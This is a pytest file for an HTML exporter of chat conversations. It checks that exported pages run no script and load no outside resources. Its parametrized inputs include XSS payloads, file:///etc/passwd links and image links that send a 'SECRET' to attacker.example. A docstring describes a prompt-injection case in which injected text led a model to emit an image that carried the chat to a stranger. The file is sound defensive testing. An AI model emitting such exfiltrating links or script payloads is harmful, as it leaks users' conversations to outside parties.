"""A page that stands alone and harms nobody (U12, U21; cases B66, B67)."""

import re
from pathlib import Path

import pytest
from hypothesis import given
from pydantic import JsonValue

from app.chats.export import Words
from app.chats.formats import read_file
from app.chats.html import export_html
from app.core.parts import MediaPart
from tests.app.chats.reading import CONVERSATIONS, conversation, imported, stored, texts

_ADDRESS = re.compile(r'(?:href|src)="([^"]*)"')


def _page(*said: tuple[str, str]) -> str:
    found = imported([{"role": role, "content": text} for role, text in said])
    return export_html(stored(found), found.bytes_of)


@pytest.mark.parametrize("path", CONVERSATIONS, ids=lambda path: path.stem)
def test_a_page_of_a_real_conversation_holds_no_script_and_leads_to_nothing_but_the_web(path: Path) -> None:
    (found,) = read_file(path)

    page = export_html(stored(found), found.bytes_of)

    assert "<script" not in page.lower()
    assert not re.search(r"<[^>]*\son\w+\s*=", page)
    assert {re.split(r"[:/]", url)[0].lower() for url in _ADDRESS.findall(page)} <= {
        "http",
        "https",
        "mailto",
        "data",
    }


@pytest.mark.parametrize(
    "text",
    [
        "<script>alert(1)</script>",
        "[x](javascript:alert(1))",
        "[x](data:text/html,<script>)",
        "[x](file:///etc/passwd)",
        "![x](https://attacker.example/p.png?d=SECRET)",
        "![x](file:///etc/passwd)",
        '<img src="\\\\attacker.example\\s\\x.png">',
        "```html\n<script>alert(1)</script>\n```",
        '```"><script>\nx\n```',
    ],
)
def test_what_a_model_wrote_runs_nothing_and_loads_nothing(text: str) -> None:
    """Case B66: a picture that injected text asked for carried the chat to a stranger."""
    for role in ("user", "assistant"):
        page = _page((role, text))

        assert "<script" not in page
        assert "<img" not in page
        assert not re.search(r'(?:href|src)="(?:javascript|data|file)', page)


@given(texts)
def test_no_text_opens_a_tag_of_its_own(text: str) -> None:
    page = _page(("tool", text))

    body = page[page.index("<main>") :]
    assert not re.search(r"<(?!/?(?:main|h1|h2|p|article|time|details|summary|pre|body|html)\b)", body)


def test_signs_that_turn_the_reading_round_are_shown() -> None:
    page = _page(("assistant", "abc\u202edef `x\u2066y`"))

    assert "‹U+202E›" in page
    assert "\u202e" not in page


def test_pictures_stand_inside_the_page_and_code_has_its_colours() -> None:
    (found,) = read_file(conversation("opencua-spotify"))
    n = sum(isinstance(part, MediaPart) for entry in found.entries for part in entry.parts)

    page = export_html(stored(found), found.bytes_of)

    assert page.count('src="data:image/jpeg;base64,') == n > 0
    assert '<span class="k">def</span>' in _page(("assistant", "```python\ndef f(): pass\n```"))
    assert "prefers-color-scheme: dark" in page


def test_a_page_for_paper_has_nothing_to_open() -> None:
    message: JsonValue = {"role": "assistant", "content": "a", "reasoning_content": "thought"}
    found = imported([message])

    page = export_html(stored(found), found.bytes_of, is_print=True, words=Words(reasoning="Gedanken"))

    assert "<details" not in page
    assert "Gedanken" in page
    assert "thought" in page
